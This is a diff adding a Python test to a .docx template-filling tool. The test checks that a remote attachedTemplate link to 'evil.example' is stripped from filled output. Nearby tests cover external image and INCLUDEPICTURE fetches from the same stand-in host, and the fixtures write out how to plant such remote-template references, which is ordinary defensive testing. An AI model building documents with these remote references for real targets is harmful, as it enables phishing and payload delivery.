@@ -245,6 +245,18 @@ def test_a_file_that_loads_something_from_elsewhere_is_refused_but_a_link_is_fin
     assert "https://evil.example/p.png" in faults(saved(document))
 
 
+def test_the_template_that_a_file_was_made_from_is_not_fetched_by_the_filled_one():
+    document = docx.Document(BytesIO(made(*example())))
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    settings = document.part.part_related_by(docx.opc.constants.RELATIONSHIP_TYPE.SETTINGS)
+    name = settings.relate_to("https://evil.example/t.dotm", kind, is_external=True)
+    code = f'<w:attachedTemplate {nsdecls("w")} {nsdecls("r")} r:id="{name}"/>'
+    document.settings.element.insert(0, parse_xml(code))
+    filled = zipfile.ZipFile(BytesIO(fill(saved(document), values(), PROPERTIES)))
+    assert not any(b"evil.example" in filled.read(part) for part in filled.namelist())
+    assert b"attachedTemplate" not in filled.read("word/settings.xml")
+
+
 def test_a_word_field_that_loads_something_is_refused():
     document = docx.Document()
     code = f'<w:fldSimple {nsdecls("w")} w:instr=" INCLUDEPICTURE &quot;http://evil.example&quot; "/>'
